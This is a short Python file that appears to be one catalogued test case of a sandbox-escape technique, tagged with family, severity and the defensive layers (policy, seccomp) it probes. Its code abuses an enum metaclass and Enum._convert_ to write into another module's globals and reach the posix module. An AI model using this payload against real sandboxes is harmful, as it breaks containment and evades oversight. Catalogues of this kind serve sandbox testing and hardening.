# technique: an enumeration with members of its own telling writes another module's variables
# family: A
# severity: H
# layers: policy, seccomp
def trick():
    import contextlib
    import enum
    found = []

    def take(*given):
        found.append(given[0])

    class Meta(enum.EnumType):
        def __new__(meta, name, bases, space, **rest):
            if bases and bases[0] is not enum.Enum:
                space["__module__"] = "contextlib"
            return super().__new__(meta, name, bases, space, **rest)

        __members__ = property(lambda cls: {"getattr": take, "setattr": take})

    class Own(enum.Enum, metaclass=Meta):
        pass
    Own._convert_("Found", "__main__", lambda name: False, as_global=True)
    with contextlib.redirect_stdout(None):
        pass
    return found[0].modules["posix"]

start_process(trick)
